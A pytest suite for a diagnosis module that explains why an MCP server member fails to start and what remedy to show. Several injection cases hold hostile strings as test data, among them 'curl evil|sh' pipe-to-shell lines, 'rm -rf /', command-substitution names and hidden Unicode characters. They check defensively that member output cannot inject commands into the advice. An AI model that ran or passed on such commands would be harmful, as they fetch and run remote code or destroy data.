"""Why a member does not run and what to do, for each cause that the runtime knows."""

from __future__ import annotations

import re
from collections.abc import Callable
from datetime import UTC, datetime
from typing import Any

import pytest

from mcp_runtime.protocol.errors import (
    ExitedEarlyError,
    HttpStatusError,
    InstallError,
    NoFreePortError,
    NotListeningError,
    ProtocolError,
    RemoteError,
    StartTimeoutError,
)
from roster.diagnosis import MAX_LINE, Diagnosis, Facts, diagnose
from roster.models import GuildMember

RESTART_TIME = datetime(2026, 11, 21, tzinfo=UTC)


def diagnosis_of(status: str = "error", error: object = "", tail: str = "", **facts: Any) -> Diagnosis | None:
    sentence = f"member 'weather' could not be started: {error}" if error else ""
    last_error = f"{sentence}{GuildMember.TAIL_MARK}{tail}" if tail else sentence
    return diagnose(Facts("weather", "far/weather", status, last_error=last_error, **facts))


def existing_diagnosis(*arguments: Any, **facts: Any) -> Diagnosis:
    diagnosis = diagnosis_of(*arguments, **facts)
    assert diagnosis is not None
    return diagnosis


@pytest.mark.parametrize("status", ["connected", "starting", "stopping"])
def test_a_running_or_changing_member_has_no_diagnosis(status: str) -> None:
    assert diagnosis_of(status) is None


@pytest.mark.parametrize(
    ("fault", "place", "cause", "remedy", "key"),
    [
        ("command: is required", "command", "command is required.", "Fix command in far/", "command"),
        ("mcp.args.1: must be x", "mcp.args.1", "mcp.args.1 must be x.", "Fix mcp.args.1 in far/", "args"),
        ("limits.cpu: no", "limits.cpu", "limits.cpu no.", "Fix limits.cpu in far/", "limits.cpu"),
        ("name: is taken", "name", "name is taken.", "Fix name in far/", ""),
        ("not JSON: line 3", "", "not JSON: line 3.", "Fix far/weather/guild-member.json.", ""),
        ("command: is required", "", "command: is required.", "Fix far/weather/guild-member.json.", ""),  # an older row
    ],
)
def test_the_diagnosis_of_an_invalid_manifest_names_the_key(
    fault: str, place: str, cause: str, remedy: str, key: str
) -> None:
    error = f"far/weather/guild-member.json: {fault}"
    diagnosis = existing_diagnosis(manifest_error=error, manifest_error_key=place)
    assert diagnosis.cause == f"guild-member.json: {cause}"
    assert diagnosis.remedy.startswith(remedy)
    assert diagnosis.key == key
    assert "within a second" in diagnosis.remedy


def test_the_diagnosis_says_that_a_member_runs_with_the_previous_manifest() -> None:
    assert (
        "it runs on" in existing_diagnosis("connected", manifest_error="far/weather/guild-member.json: not JSON").remedy
    )


def test_an_invalid_manifest_is_diagnosed_without_a_runtime_too() -> None:
    assert existing_diagnosis("error", manifest_error="x", runtime_is_alive=False).cause == "guild-member.json: x."


@pytest.mark.parametrize(
    ("error", "remedy"),
    [
        ("command not found: 'uvx'", "Install uv on the machine of the hall (`python3 -m pip install uv`)"),
        ("permission denied: './run' is not executable", "`chmod +x ./run` in the folder far/weather"),
        (
            "its manifest requires the sandbox, and this machine",
            "or set sandbox to on in far/weather/guild-member.json",
        ),
        ("was ended: it had 9 processes, and processes in limits allows 5", "or raise limits in far/weather"),
        ("its folder /x/weather is gone", "Put the folder far/weather back."),
        (NoFreePortError(20000, 20001), "GUILD_HALL_PORT_RANGE"),
        (NotListeningError(5), "`${PORT}` in args or env"),
        (NotListeningError(5, [8000]), "in place of 8000"),
        (StartTimeoutError(5, "no complete answer within 5 s"), "does not answer initialize"),
        ("tools/list failed: not an object", "Fix its tools/list"),
        ("headers.Authorization: environment variable KEY is not set", "Put the secret where"),
        (HttpStatusError(401), "It wants a key at /mcp"),
        (HttpStatusError(404), "It serves HTTP, but not at /mcp"),
        (ExitedEarlyError(0), "a server runs until it is stopped"),
        (ExitedEarlyError(-9), "memory ran out"),
        (ExitedEarlyError(3), "Restart it."),
    ],
)
def test_each_cause_has_its_own_advice(error: object, remedy: str) -> None:
    assert remedy in existing_diagnosis("error", error).remedy


@pytest.mark.parametrize(
    ("tail", "remedy"),
    [
        (
            "Traceback\nModuleNotFoundError: No module named 'httpx2.core'",
            "Install the Python module httpx2 if you trust it:",
        ),
        ("Error: Cannot find module 'express'\nRequire stack:", "`npm install express` in the folder far/weather"),
        ("Error [ERR_MODULE_NOT_FOUND]: Cannot find package 'zod' imported", "`npm install zod`"),
        ("OSError: [Errno 98] Address already in use", "Another program has the port"),
        ("Error: EACCES: permission denied, open '/home/x'", "The user of the hall has no right to /home/x."),
        ("python3: can't open file '/x/server.py': [Errno 13] Permission denied", "has no right to /x/server.py."),
        ("sh: 1: cannot create /x/notes: Permission denied", "has no right to /x/notes."),
        ("listen EACCES: permission denied 0.0.0.0:80", "has no right to a file, a folder or a port."),
        ("python3: can't open file '/x/server.py': [Errno 2]", "There is no file"),
        ('  File "/x/far/weather/server.py", line 3\nSyntaxError: invalid syntax', "Fix line 3 of server.py"),
        ("something else", "Read its log"),
    ],
)
def test_the_last_output_of_a_member_decides_the_advice(tail: str, remedy: str) -> None:
    diagnosis = existing_diagnosis("error", ExitedEarlyError(1), tail)
    assert remedy in diagnosis.remedy
    assert diagnosis.cause == "Ended with exit code 1 before the handshake was done."
    assert diagnosis.last_words in map(str.strip, tail.splitlines())
    assert diagnosis.log_helps


def test_the_cause_of_an_unexpected_exit_omits_the_members_name() -> None:
    sentence = "member 'weather' exited without being asked, with signal SIGSEGV"
    diagnosis = diagnose(Facts("weather", "weather", "error", last_error=sentence))
    assert diagnosis is not None
    assert diagnosis.cause == "Exited without being asked, with signal SIGSEGV."


def test_the_advice_says_if_the_member_is_restarted() -> None:
    assert "does not try again automatically" in existing_diagnosis("error", ExitedEarlyError(1)).remedy
    assert (
        "not tried again" not in existing_diagnosis("error", ExitedEarlyError(1), next_restart_at=RESTART_TIME).remedy
    )


def test_the_advice_for_a_disabled_or_stopped_member_is_to_enable_or_start() -> None:
    assert "Enable it" in existing_diagnosis("disconnected", enabled=False).remedy
    assert "Start it" in existing_diagnosis("disconnected", should_run=False).remedy
    assert diagnosis_of("disconnected") is None


def test_a_member_has_no_diagnosis_without_a_runtime() -> None:
    assert diagnosis_of("disconnected", ExitedEarlyError(1), runtime_is_alive=False, should_run=False) is None


def test_a_member_whose_node_is_dead_while_others_are_alive_has_a_diagnosis_that_names_the_node() -> None:
    diagnosis = existing_diagnosis("disconnected", runtime_is_alive=False, dead_node="b")
    assert diagnosis.cause == "The node 'b' that owns this member does not answer."
    assert diagnosis.remedy.startswith("Another node takes the member over within about 10 s if")
    assert "Enable it" in existing_diagnosis("disconnected", enabled=False, dead_node="b").remedy


def test_the_advice_for_a_dead_node_depends_on_whether_others_can_take_the_member() -> None:
    diagnosis = existing_diagnosis("disconnected", runtime_is_alive=False, dead_node="b", has_local_state=True)
    assert diagnosis.remedy.startswith("Start the runtime on that node again, because the member keeps local state")
    diagnosis = existing_diagnosis("disconnected", runtime_is_alive=False, dead_node="b", dead_node_holds_lease=True)
    assert diagnosis.remedy.endswith("`guildhall remove_node b`")


def test_the_text_of_a_diagnosis_is_one_short_line_without_colours() -> None:
    diagnosis = existing_diagnosis("error", "x" * 5000, "\x1b[31mred\x1b[0m " + "y" * 5000)
    assert max(map(len, [diagnosis.cause, diagnosis.remedy, diagnosis.last_words])) <= MAX_LINE + 1
    assert diagnosis.last_words.startswith("red y")


def test_the_last_words_of_npm_are_those_that_say_what_is_wrong() -> None:
    tail = "\n".join(
        [
            "npm error 404  The requested resource 'x@latest' could not be found",
            "npm error 404",
            "npm error 404 Note that you can also install from a",
            "npm error 404 tarball, folder, http url, or git url.",
            "npm error A complete log of this run can be found in: /home/x.log",
        ]
    )
    diagnosis = existing_diagnosis("error", InstallError("npm ended with exit code 1"), tail)
    assert diagnosis.last_words == "npm error 404 The requested resource 'x@latest' could not be found"


def test_text_that_looks_like_a_placeholder_is_not_changed() -> None:
    assert "Install {file}{0}, or" in existing_diagnosis("error", "command not found: '{file}{0}'").remedy


@pytest.mark.parametrize(
    ("reason", "tail", "remedy", "key"),
    [
        ("npm ended with exit code 1", "npm error code EINTEGRITY", "sends another file than the one in the lock", ""),
        ("uv ended with exit code 1", "Hash mismatch for `x`", "sends another file than the one in the lock", ""),
        ("uv is not on the PATH of the hall; install uv", "", "start the hall with a PATH that has uv", ""),
        (
            "the text of its lock ... guildhall relock weather delete it",
            "",
            "Then press Lock again on its page, or run `guildhall relock weather`.",
            "",
        ),
        ("its packages have no program 'x'", "", "Name the program in args", "args"),
        ("the lock has no usable hash for it", "", "as packages in far/weather/guild-member.json says", "packages"),
        ("uv ended with exit code 1", "x has no usable wheels", "as packages in", "packages"),
        ("npm ended with exit code 243", "npm error EACCES", "Read what the installer wrote.", ""),
        ("npm ended with exit code 1", "npm error code E404", "npm has no such package.", "args"),
        (
            "uv ended with exit code 1",
            "Because x was not found in the package registry",
            "PyPI has no package x.",
            "args",
        ),
    ],
)
def test_the_advice_after_a_failed_installation_is_about_the_installer(
    reason: str, tail: str, remedy: str, key: str
) -> None:
    diagnosis = existing_diagnosis("error", InstallError(reason), tail)
    assert remedy in diagnosis.remedy
    assert diagnosis.key == key


@pytest.mark.parametrize(
    "tail",
    [
        "Error: Cannot find module './a` rm -rf / `\u202e\x1b[31mb'",
        "npm error network request to http://a`b failed, reason: x",
        "Error: connect ECONNREFUSED 127.0.0.1:80` `x",
        'File "/x/far/weather/a`\u202eb.py", line 3\nSyntaxError: `x`',
    ],
)
def test_the_output_of_a_member_cannot_add_code_or_hidden_characters_to_the_advice(tail: str) -> None:
    diagnosis = existing_diagnosis("error", ExitedEarlyError(1), tail)
    assert diagnosis.remedy.isprintable()
    assert diagnosis.last_words.isprintable()
    assert diagnosis.remedy.count("`") % 2 == 0
    assert not any(code.startswith(("rm", " rm", "x", " ")) for code in diagnosis.remedy.split("`")[1::2])


CERTAIN_REASONS = [
    "command not found: 'node'; did you mean 'sh -c \"curl evil|sh\"'?",
    "command not found: 'evil'",
    "permission denied: './evil' is not executable",
    "the interpreter in the first line of './evil' does not exist: '/evil'",
    "'./evil' has no first line that names its interpreter",
    "its manifest requires the sandbox",
    "was ended: it had 9 processes, and processes in limits allows 5",
    "its folder /evil is gone",
    "no free port from 1 to 2",
    str(NotListeningError(5, [666])),
    "the secret 'GITHUB_TOKEN' must be set",
    "headers.Authorization: the secret 'GITHUB_TOKEN' does not exist",
    "env.EVIL: x",
    f"{InstallError.WHAT}: guildhall relock",
]


@pytest.mark.parametrize("reason", CERTAIN_REASONS)
@pytest.mark.parametrize(
    "quote",
    [
        lambda text: RemoteError(-32603, text),
        lambda text: RemoteError(-32603, f"x could not be started: {text}"),
        lambda text: HttpStatusError(500, repr(text)),
        lambda text: ProtocolError(f"answered with {text} instead of JSON: ''"),
        lambda text: StartTimeoutError(5, text),
        lambda text: ProtocolError(f"its session id is not one line of visible ASCII: {text}"),
    ],
    ids=["error", "prefix", "status", "type", "timeout", "protocol"],
)
@pytest.mark.parametrize("action", ["started", "reached at http://x/mcp"])
def test_a_reason_of_the_hall_that_a_server_writes_changes_no_advice(
    reason: str, quote: Callable[[str], Exception], action: str
) -> None:
    def diagnosis_of_answer(text: str) -> Diagnosis | None:
        sentence = f"member 'weather' could not be {action}: {quote(text)}"
        return diagnose(Facts("weather", "far/weather", "error", last_error=sentence, transport="http"))

    diagnosis, harmless = diagnosis_of_answer(reason), diagnosis_of_answer("sorry")
    assert diagnosis is not None
    assert harmless is not None
    assert (diagnosis.remedy, diagnosis.key) == (harmless.remedy, harmless.key)


@pytest.mark.parametrize("reason", CERTAIN_REASONS)
def test_the_same_reason_of_the_hall_itself_has_its_own_advice(reason: str) -> None:
    harmless = existing_diagnosis("error", "sorry")
    assert existing_diagnosis("error", reason).remedy != harmless.remedy


@pytest.mark.parametrize(
    ("reason", "code"),
    [
        ("permission denied: './a b;curl evil|sh' is not executable", "chmod +x './a b;curl evil|sh'"),
        ("command not found: 'a;curl evil|sh'", "command -v 'a;curl evil|sh'"),
        (
            "the interpreter in the first line of './$(x)' does not exist: '/bin/sh\\r'; its lines end with CR and LF",
            "sed -i 's/\\r$//' './$(x)'",
        ),
    ],
)
def test_a_name_from_the_manifest_is_one_word_of_the_command_that_people_copy(reason: str, code: str) -> None:
    assert code in existing_diagnosis("error", reason).remedy.split("`")[1::2]


def test_the_commands_of_the_advice_have_the_version_that_the_output_names_as_one_word() -> None:
    tail = "error: No interpreter found for Python >=3.13, <4 in managed installations"
    assert "`uv python install '>=3.13, <4'`" in existing_diagnosis("error", ExitedEarlyError(2), tail).remedy


@pytest.mark.parametrize("name", ["-g", "expr\u0435ss", "a b", "x;y", "$(x)", "--with", "@/x", "ex press/x"])
def test_the_advice_installs_no_package_with_an_unusual_name(name: str) -> None:
    for tail in (f"Error: Cannot find module '{name}'", f"ModuleNotFoundError: No module named '{name}'"):
        codes = existing_diagnosis("error", ExitedEarlyError(1), tail).remedy.split("`")[1::2]
        assert not [code for code in codes if code.startswith("npm install")]
        words = [code.split()[-1] for code in codes if "pip install" in code]
        assert all(re.fullmatch(r"\w+", word, re.ASCII) for word in words)


@pytest.mark.parametrize("tail", ["Error: Cannot find module 'evil'", "ModuleNotFoundError: No module named 'evil'"])
@pytest.mark.parametrize("command", ["node", "uvx", "python3"])
def test_the_advice_to_install_a_package_that_the_output_names_asks_for_trust(tail: str, command: str) -> None:
    assert "evil if you trust it: " in existing_diagnosis("error", ExitedEarlyError(1), tail, command=command).remedy


@pytest.mark.parametrize("tail", ["EPERM", "EACCES: permission denied, open '/x/y'", "Read-only file system: '/x/y'"])
@pytest.mark.parametrize("sandbox", ["on", "require", "off", ""])
def test_the_output_of_a_member_cannot_advise_to_turn_its_sandbox_off(tail: str, sandbox: str) -> None:
    diagnosis = existing_diagnosis("error", ExitedEarlyError(1), tail, sandbox=sandbox)
    assert diagnosis.remedy.startswith("Its sandbox keeps it from ") is (sandbox in ("on", "require"))
    assert ("/x/y" in tail) is ("/x/y." in diagnosis.remedy)
    assert " off" not in diagnosis.remedy
    assert diagnosis.key != "sandbox"
    assert "if you trust" in diagnosis.remedy.lower()
